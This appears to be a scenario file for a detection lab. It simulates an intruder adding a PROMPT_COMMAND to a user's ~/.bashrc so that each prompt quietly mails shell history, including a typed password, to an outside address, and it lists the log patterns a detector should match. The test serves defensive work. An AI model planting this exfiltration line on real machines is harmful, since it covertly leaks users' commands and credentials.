title="Every prompt mails what was typed"
what="Somebody adds a PROMPT_COMMAND to clerk's ~/.bashrc while the terminal stands open: from then on each prompt in each of clerk's shells hands the last lines of the history to mail, in the background, for an address outside. clerk notices nothing and works: eight commands, one with a password in it."
user=clerk daemons="cron sshd" syslog_format=iso
act() {
  small_talk 4
  ssh_as clerk <<'L'
ls
echo "PROMPT_COMMAND='(history 2 | mail -s \"\$HOSTNAME \$\$\" status@lists.example.net >/dev/null 2>&1 &)'" >> ~/.bashrc
L
  small_talk 2
  ssh_as clerk <<'L'
cd Maildir
ls new | wc -l
cd
%sleep 1
curl -s -o /dev/null -u clerk:lab-only http://files.example.net/prices.csv
date
ls -l
L
  small_talk 2; wait_log_count 'to=<status@lists.example.net>.*status=sent' 6 20
}
truth() {
  file_step rc 'bash openat:write .*\.bashrc' 'a prompt command'
  exec_step send '(mail|bsd-mailx) -s .* status@lists.example.net' 'each prompt mails'
  mail_step sent 'to=<status@lists.example.net>.*status=sent' 'out'
}
